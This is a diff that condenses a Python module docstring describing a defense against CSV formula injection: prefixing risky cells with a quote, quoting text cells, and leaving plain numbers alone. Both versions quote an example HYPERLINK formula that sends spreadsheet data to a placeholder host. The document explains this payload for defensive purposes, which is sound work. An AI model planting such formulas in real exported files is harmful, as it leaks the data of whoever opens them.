@@ -1,26 +1,14 @@
 """CSV cells that cannot attack the spreadsheet that opens them (CSV or formula injection).
 
-The package writes text it does not control into CSV files: a rater's note, a model
-name, a label from a log. A spreadsheet reads a cell that starts with `=`, `+`, `-` or
-`@` as a formula (`=HYPERLINK("http://x/?"&A1, "click")` sends the sheet's data away),
-and a tab or a carriage return in front can smuggle one past a first look. So, as
-OWASP's CSV-injection advice and ASVS 1.2.10 say, every text cell that starts with one
-of those characters (or NUL) is written with a single quote in front, and every text
-cell is quoted (`QUOTING`), so that no separator inside a cell can start a new one in a
-program that guesses another separator.
-
-What is left alone, because it is data and no formula:
-
-- numbers (`int`, `float`, numpy numbers) and the numeric columns of a table: `-0.5`
-  stays `-0.5`, unquoted, and reads back as a number;
-- a text cell that is a plain decimal number and nothing else (`"-3"`, `"+1.5"`,
-  `"-2e-3"`): a spreadsheet computes such a cell to the number it shows, no reference
-  or function fits in it, and a quote in front would turn a number into text. This is
-  our one departure from OWASP's blanket rule, and it is safe by construction (the
-  pattern allows ASCII digits, one sign, one point and an exponent only).
-
-JSONL files are not touched: no program evaluates a JSON string, and they keep the text
-exactly as it was given.
+The package writes text it does not control into CSV files (a rater's note, a model name,
+a label from a log), and a spreadsheet reads a cell starting with `=`, `+`, `-` or `@` as
+a formula (`=HYPERLINK("http://x/?"&A1, "click")` sends the sheet's data away). So, as
+OWASP's CSV-injection advice says, every text cell starting with one of those, a tab, a
+carriage return or NUL gets a single quote in front, and every text cell is quoted
+(`QUOTING`). Numbers are left alone, and so is a text cell that is a plain decimal number
+and nothing else (`"-3"`): no reference or function fits in it, and a quote would turn
+a number into text; our one departure from OWASP's blanket rule, safe by construction.
+JSONL files are not touched: no program evaluates a JSON string.
 """
 
 from __future__ import annotations
